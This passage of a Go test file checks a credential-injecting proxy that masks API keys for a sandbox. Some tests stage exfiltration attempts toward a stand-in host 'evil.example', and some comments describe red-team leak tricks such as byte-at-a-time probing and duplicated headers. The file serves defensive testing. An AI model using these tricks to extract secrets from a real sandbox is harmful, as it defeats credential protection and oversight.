			t.Errorf("Redact(%q) = %q, %v; want %q, %v", tt.in, got, vars, tt.want, tt.vars)
		}
	}
	var none *Set
	if got, vars := none.Redact("x " + openaiSecret); got != "x "+openaiSecret || vars != nil {
		t.Errorf("a nil set redacted %q to %q, %v", openaiSecret, got, vars)
	}
}

// TestGuardHoldsNothingBackForASecret: a body that ends, for now, in what
// could be the start of a real secret is handed out whole at once. A guard
// that held such bytes back would tell the sandbox, by whether its request
// went on, that its guess starts a secret: one byte at a time, the whole
// key. A placeholder's start, the sandbox's own, may be held back.
func TestGuardHoldsNothingBackForASecret(t *testing.T) {
	set := applySet(t)
	for _, tc := range []struct {
		name, tail string
		held       bool
	}{
		{"start of a secret", openaiSecret[:len(openaiSecret)-1], false},
		{"start of a secret in base64", base64.StdEncoding.EncodeToString([]byte(githubSecret))[:12], false},
		{"no needle", "hello", false},
		{"start of an unbound placeholder", ph(set, "anthropic")[:10], true},
	} {
		t.Run(tc.name, func(t *testing.T) {
			pr, pw := io.Pipe()
			defer pw.Close()
			g := set.GuardBody(pr, "evil.example", 443)
			sent := "filler " + tc.tail
			go pw.Write([]byte(sent))
			b, in := readWithin(g, len(sent), 300*time.Millisecond)
			switch {
			case in:
				if tc.held || b != sent {
					t.Fatalf("handed out %q; want %q held=%v", b, sent, tc.held)
				}
			case !tc.held:
				t.Fatalf("%q held back: the guard waits on a possible secret", tc.tail)
			}
		})
	}
}

// TestApplyDropsRequestTrailers: a chunked request's trailers arrive after
// the checks; they are not sent on, placeholders and all.
func TestApplyDropsRequestTrailers(t *testing.T) {
	set := applySet(t)
	for _, declared := range []bool{true, false} {
		head := "POST /up HTTP/1.1\r\nHost: evil.example\r\nTransfer-Encoding: chunked\r\n"
		if declared {
			head += "Trailer: X-Sig\r\n"
		}
		raw := head + "\r\n5\r\nhello\r\n0\r\nX-Sig: " + ph(set, "openai") + "\r\n\r\n"
		req, err := http.ReadRequest(bufio.NewReader(strings.NewReader(raw)))
		if err != nil {
			t.Fatal(err)
		}
		if _, err := set.Apply(req, "evil.example", 443, true); err != nil {
			t.Fatal(err)
		}
		var out bytes.Buffer
		if err := req.Write(&out); err != nil {
			t.Fatal(err)
		}
		if strings.Contains(out.String(), ph(set, "openai")) || !strings.Contains(out.String(), "hello") {
			t.Errorf("declared=%v: sent upstream %q; want the body without the trailer", declared, out.String())
		}
	}
}

// TestMaskSpellings: each spelling Apply sends a secret in comes back
// masked, as the placeholder spelt the same way, from a response body,
// a header and a masked file; Scrub takes them, and the placeholders, out
// of text for the log.
func TestMaskSpellings(t *testing.T) {
	set := applySet(t)
	b64 := func(v string) string { return base64.StdEncoding.EncodeToString([]byte(v)) }
	for _, tc := range []struct{ name, secret, placeholder, cred string }{
		{"as written", mapsSecret, ph(set, "maps"), "maps"},
		{"path-escaped", url.PathEscape(mapsSecret), url.PathEscape(ph(set, "maps")), "maps"},
		{"query-escaped", url.QueryEscape(mapsSecret), url.QueryEscape(ph(set, "maps")), "maps"},
		// As git writes a password into ~/.git-credentials.
		{"percent-encoded in lower case", "maps-real-key%2fwith%2bodd%3dchars", ph(set, "maps"), "maps"},
		{"Basic credentials", b64("x-access-token:" + githubSecret), b64("x-access-token:" + ph(set, "github")), "github"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			echo := "echo: " + tc.secret + " end"
			want := "echo: " + tc.placeholder + " end"
			body, err := io.ReadAll(set.MaskBody(io.NopCloser(&chunkReader{data: []byte(echo), sizes: []int{7, 3}})))
			if err != nil || string(body) != want {
				t.Errorf("MaskBody: %q, %v; want %q", body, err, want)
			}
			h := http.Header{"X-Echo": {echo}}
			set.MaskHeader(h)
			if h.Get("X-Echo") != want {
				t.Errorf("MaskHeader: %q, want %q", h.Get("X-Echo"), want)
			}
			if got := string(set.MaskBytes([]byte(echo))); got != want {
				t.Errorf("MaskBytes: %q, want %q", got, want)
			}
			for _, v := range []string{echo, "echo: " + tc.placeholder + " end"} {
				if got := set.Scrub(v); got != "echo: [masked:"+tc.cred+"] end" {
					t.Errorf("Scrub(%q) = %q", v, got)
				}
			}
		})
	}
}

// TestMaskJSONEscaped: an upstream quoting the injected key in a JSON
// body (an echo, an error message) writes it escaped as its encoder
// does, and each common encoder's spelling is masked in bodies and
// headers, scrubbed from lines, and refused leaving in a request body.
// Before, only the key as written was: the box read it one JSON decoding
// away, as through the real proxy from the integration tests' echo
// origin (Go's encoding/json) for a key holding a '&' or a '"'.
func TestMaskJSONEscaped(t *testing.T) {
	const secret = "k3y\"q\\b<t>&s/\u00e9-\U0001F600-0123"
	set := loadOne(t, policy.Credential{Name: "api", Source: policy.Source{Env: "API_REAL"}, Hosts: []string{"api.example"},
		Header: "X-Api-Key: {}", Env: "API_KEY"}, secret)
	p := ph(set, "api")
	goJSON, err := json.Marshal(secret)
	if err != nil {
		t.Fatal(err)
	}
	var plain bytes.Buffer
	enc := json.NewEncoder(&plain)
	enc.SetEscapeHTML(false)
	if err := enc.Encode(secret); err != nil {
		t.Fatal(err)
	}
	for _, tc := range []struct{ name, escaped string }{
		{"Go's encoding/json", strings.Trim(string(goJSON), `"`)},
		{"JSON.stringify", strings.Trim(strings.TrimSpace(plain.String()), `"`)},
		{"Python's json.dumps", `k3y\"q\\b<t>&s/\u00e9-\ud83d\ude00-0123`},
		{"PHP's json_encode", `k3y\"q\\b<t>&s\/\u00e9-\ud83d\ude00-0123`},
	} {
		t.Run(tc.name, func(t *testing.T) {
			echo := `{"error": "bad key ` + tc.escaped + `"}`
			body, err := io.ReadAll(set.MaskBody(io.NopCloser(&chunkReader{data: []byte(echo), sizes: []int{9, 4}})))
			if err != nil || strings.Contains(string(body), "0123") || !strings.Contains(string(body), p) {
				t.Errorf("MaskBody: %q, %v; want the placeholder", body, err)
			}
			h := http.Header{"X-Echo": {echo}}
			set.MaskHeader(h)
			if strings.Contains(h.Get("X-Echo"), "0123") {
				t.Errorf("MaskHeader: %q", h.Get("X-Echo"))
			}
			if got := set.Scrub(echo); got != `{"error": "bad key [masked:api]"}` {
				t.Errorf("Scrub: %q", got)
			}
			g := set.GuardBody(io.NopCloser(strings.NewReader(echo)), "api.example", 443)
			if _, err := io.ReadAll(g); !errors.Is(err, g.Err()) || g.Err() == nil {
				t.Errorf("a request body holding the key so escaped went out: %v", err)
			}
		})
	}
}

// TestMaskHTMLEscaped: an upstream quoting the injected key in an HTML
// page (an error page, an echo) escapes its '&', '<', '>', '"' and '\”
// as its escaper does, and each common escaper's spelling is masked in
// bodies and scrubbed from lines. Before, the box read the key one HTML
// decoding away (red team, round 8).
func TestMaskHTMLEscaped(t *testing.T) {
	const secret = "k3y&q<b>\"t'+/=-0123"
	set := loadOne(t, policy.Credential{Name: "api", Source: policy.Source{Env: "API_REAL"}, Hosts: []string{"api.example"},
		Header: "X-Api-Key: {}", Env: "API_KEY"}, secret)
	p := ph(set, "api")
	goTemplate := "k3y&amp;q&lt;b&gt;&#34;t&#39;&#43;/=-0123"
	inJSON, err := json.Marshal(goTemplate)
	if err != nil {
		t.Fatal(err)
	}
	for _, tc := range []struct{ name, escaped string }{
		{"Go's html.EscapeString", html.EscapeString(secret)},
		{"Python's html.escape", "k3y&amp;q&lt;b&gt;&quot;t&#x27;+/=-0123"},
		{"PHP's htmlspecialchars", "k3y&amp;q&lt;b&gt;&quot;t&#039;+/=-0123"},
		{"Rails", "k3y&amp;q&lt;b&gt;&quot;t&#39;+/=-0123"},
		{"Go's html/template", goTemplate},
		{"XML's three", "k3y&amp;q&lt;b&gt;\"t'+/=-0123"},
		{"XML's five", "k3y&amp;q&lt;b&gt;&quot;t&apos;+/=-0123"},
		{"Java's escapeHtml4", "k3y&amp;q&lt;b&gt;&quot;t'+/=-0123"},
		{"decimal references", "k3y&#38;q&#60;b&#62;&#34;t&#39;+/=-0123"},
		{"hexadecimal references", "k3y&#x26;q&#x3C;b&#x3E;&#x22;t&#x27;+/=-0123"},
		{"html/template's, in Go's JSON", strings.Trim(string(inJSON), `"`)},
		{"mustache.js", "k3y&amp;q&lt;b&gt;&quot;t&#39;+&#x2F;&#x3D;-0123"},
		{"Handlebars", "k3y&amp;q&lt;b&gt;&quot;t&#x27;+/&#x3D;-0123"},
		{"OWASP ESAPI", "k3y&amp;q&lt;b&gt;&quot;t&#x27;&#x2b;&#x2f;&#x3d;-0123"},
		{"every punctuation byte, decimal", "k3y&#38;q&#60;b&#62;&#34;t&#39;&#43;&#47;&#61;-0123"},
		{"every punctuation byte, hexadecimal", "k3y&#x26;q&#x3c;b&#x3e;&#x22;t&#x27;&#x2b;&#x2f;&#x3d;-0123"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			page := "<p>bad key " + tc.escaped + "</p>"
			body, err := io.ReadAll(set.MaskBody(io.NopCloser(&chunkReader{data: []byte(page), sizes: []int{9, 4}})))
			if err != nil || strings.Contains(string(body), "0123") || !strings.Contains(string(body), p) {
				t.Errorf("MaskBody: %q, %v; want the placeholder", body, err)
			}
			if got := set.Scrub(page); got != "<p>bad key [masked:api]</p>" {
				t.Errorf("Scrub: %q", got)
			}
		})
	}
}

// TestScrubAnyCase: Scrub takes a secret or a placeholder out of text in
// any case (a host name is logged in lower case, and a placeholder with
// capitals in its prefix was logged whole when the box asked for a host
// named after it), and leaves the case of the rest.
func TestScrubAnyCase(t *testing.T) {
	c := validCred()
	c.PlaceholderPrefix = "AKIA"
	set, err := Load([]policy.Credential{c}, []string{"openai"}, Options{Env: envOf(map[string]string{"REAL_OPENAI": openaiSecret})})
	if err != nil {
		t.Fatal(err)
	}
	p := ph(set, "openai")
	for _, tc := range []struct{ in, want string }{
		{"Host " + strings.ToLower(p) + ".Example", "Host [masked:openai].Example"},
		{"allow it with --allow " + p + ".example", "allow it with --allow [masked:openai].example"},
		{strings.ToUpper(openaiSecret) + "/" + openaiSecret, "[masked:openai]/[masked:openai]"},
		{"Nothing Here", "Nothing Here"},
	} {
		if got := set.Scrub(tc.in); got != tc.want {
			t.Errorf("Scrub(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

// TestScreen: a Screen refuses the piece that completes a real secret
// (any spelling) or an unbound credential's placeholder, however the
// pieces split it, and every piece after; a bound placeholder and other
// bytes pass; Reset keeps what follows from being read with what came
// before.
func TestScreen(t *testing.T) {
	set := applySet(t)
	const host = "api.anthropic.com"
	for _, tc := range []struct {
		name   string
		pieces []string
		reset  int // Reset before this piece, if > 0
		want   policy.Reason
		cred   string
	}{
		{"bound placeholder", []string{"key " + ph(set, "anthropic")}, 0, "", ""},
		{"plain bytes", []string{"hello", " there"}, 0, "", ""},
		{"unbound placeholder, split", []string{"x" + ph(set, "github")[:7], ph(set, "github")[7:] + "y"}, 0, ReasonMisroute, "github"},
		{"secret, a byte a piece", strings.Split("key "+openaiSecret, ""), 0, ReasonSecretLeak, "openai"},
		{"secret query-escaped", []string{"k=" + url.QueryEscape(mapsSecret)}, 0, ReasonSecretLeak, "maps"},
		{"split by a reset", []string{ph(set, "github")[:7], ph(set, "github")[7:]}, 1, "", ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			sc := set.NewScreen(host, 443)
			var err error
			for i, p := range tc.pieces {
				if tc.reset > 0 && i == tc.reset {
					sc.Reset()
				}
				if err = sc.Check([]byte(p)); err != nil && i != len(tc.pieces)-1 {
					t.Fatalf("refused at piece %d of %d, before the value was whole: %v", i+1, len(tc.pieces), err)
				}
			}
			var ce *Error
			switch {
			case tc.want == "" && (err != nil || sc.Err() != nil):
				t.Fatalf("refused: %v", err)
			case tc.want == "":
			case !errors.As(err, &ce) || ce.Reason != tc.want || ce.Credential != tc.cred || sc.Err() != err:
				t.Fatalf("%v, Err %v; want %s for %s", err, sc.Err(), tc.want, tc.cred)
			case sc.Check([]byte("more")) == nil:
				t.Fatal("a refused Screen took more")
			case strings.Contains(err.Error(), openaiSecret) || strings.Contains(err.Error(), ph(set, "github")):
				t.Fatalf("the refusal quotes a value: %v", err)
			}
		})
	}
}

// FuzzApplyPlacement: whatever URL and header a client sends toward a
// credential's host, a request Apply lets through carries each secret
// only where its credential's form puts it: its header or Authorization,
// Basic Authorization, its query parameter's whole value, or the path
// where the path template has it.
func FuzzApplyPlacement(f *testing.F) {
	f.Add("https://api.telegram.org/bot{telegram}/sendMessage?chat_id=1&text={telegram}", "X-Note", "{openai}")
	f.Add("https://api.telegram.org/bot{telegram}/getMe", "Authorization", "Bearer {telegram}")
	f.Add("https://maps.example.com/geo?key={maps}&text=%20{maps}", "X-Goog-Meta-Note", "{maps}")
	f.Add("https://maps.example.com/geo?key={maps};q={maps}", "cookie", "s={maps}")
	f.Add("https://api.anthropic.com/v1/{anthropic}", "x-api-key", "{anthropic}")
	f.Add("https://api.github.com/user?{github}=1", "Authorization", "{basic:x-access-token:github}")
	set := applySet(f)
	f.Fuzz(func(t *testing.T, rawURL, name, value string) {
		req, err := http.NewRequest(http.MethodGet, expand(set, rawURL), nil)
		if err != nil || name == "" {
			return
		}
		req.Header[expand(set, name)] = []string{expand(set, value)}
		if _, err := set.Apply(req, strings.ToLower(req.URL.Hostname()), 443, true); err != nil {
			return
		}
		for _, c := range set.creds {
			if where := misplaced(c, req); where != "" {
				t.Fatalf("%s's secret sent in %s: %s %q", c.name, where, req.URL, req.Header)
			}
		}
	})
}

// misplaced names a part of req holding c's secret where its form does
// not put it, or returns "".
func misplaced(c *cred, req *http.Request) string {
	for name, values := range req.Header {
		for _, v := range values {
			raw, _ := decodeBasic(v)
			has := strings.Contains(v, c.secret) || strings.Contains(raw, c.secret)
			if strings.Contains(strings.ToLower(name), strings.ToLower(c.secret)) || has && !c.takesHeader(name) {
				return "header " + name
			}
			// The secret is the value, or what follows its scheme, or
			// the password of the credential's own Basic user, in a
			// header sent once.
			if has && (len(values) > 1 || !c.whole(v, c.secret) && !(c.basicUser != "" && raw == c.basicUser+":"+c.secret)) {
				return "header " + name + ", amid bytes of the client's"
			}
		}
	}
	u := req.URL
	for _, p := range []string{u.Path, u.RawPath} {
		if strings.Contains(p, c.secret) && (c.pathBefore == "" || !strings.HasPrefix(p, c.pathBefore+c.secret+c.pathAfter) || strings.Count(p, c.secret) != 1) {
			return "the path"
		}
	}
	if strings.Contains(u.User.String(), c.secret) || strings.Contains(u.Opaque, c.secret) || strings.Contains(req.Method, c.secret) {
		return "the URL"
	}
	for part := range strings.SplitSeq(u.RawQuery, "&") {
		k, v, _ := strings.Cut(part, "=")
		key, _ := url.QueryUnescape(k)
		value, _ := url.QueryUnescape(v)
		if strings.Contains(part, c.secret) || strings.Contains(key, c.secret) || strings.Contains(value, c.secret) && (key != c.query || value != c.secret) {
			return "the query"
		}
	}
	return ""
}

// TestApplyHeaderSentTwice: a placeholder in a header sent more than once
// is refused, whatever the other value: a server that joins a header's
// values (WSGI servers do) saw "Basic QUFB,KEY", and decoded the key in
// an alignment the box chose (red team, round 7).
func TestApplyHeaderSentTwice(t *testing.T) {
	s := applySet(t)
	for _, values := range [][]string{{"Basic QUFB", "{openai}"}, {"Bearer {openai}", "Bearer {openai}"}} {
		req, err := http.NewRequest(http.MethodGet, "https://api.openai.com/v1", nil)
		if err != nil {
			t.Fatal(err)
		}
		for _, v := range values {
			req.Header.Add("Authorization", expand(s, v))
		}
		_, err = s.Apply(req, "api.openai.com", 443, true)
		var e *Error
		if !errors.As(err, &e) || e.Reason != ReasonPlacement || e.Credential != "openai" {
			t.Errorf("Authorization %q: err = %v, want a credential_placement refusal", values, err)
		}
		if strings.Contains(strings.Join(req.Header.Values("Authorization"), ","), openaiSecret) {
			t.Errorf("Authorization %q: the secret went in", values)
		}
	}
}
